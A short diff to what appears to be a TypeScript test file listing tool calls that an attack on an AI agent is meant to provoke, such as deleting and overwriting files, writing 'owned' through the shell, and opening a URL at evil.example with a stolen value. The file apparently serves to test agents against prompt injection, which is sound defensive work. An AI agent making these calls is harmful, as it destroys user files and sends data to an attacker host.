@@ -238,7 +238,7 @@ const wanted: [string, object][] = [
   ['move_file', { from: 'kept.txt', to: 'owned.txt' }],
   ['delete_file', { path: 'kept.txt' }],
   ['shell', { command: 'echo owned > owned.txt' }],
-  ['python_repl', { code: 'open("owned.txt","w").write("owned")' }],
+  ['python_repl', { code: 'from pathlib import Path; Path("owned.txt").write_text("owned")' }],
   ['git_commit', { message: 'owned' }],
   ['fetch_url', { url: 'STEAL' }],
   ['open_url', { url: 'https://evil.example/?kept' }],
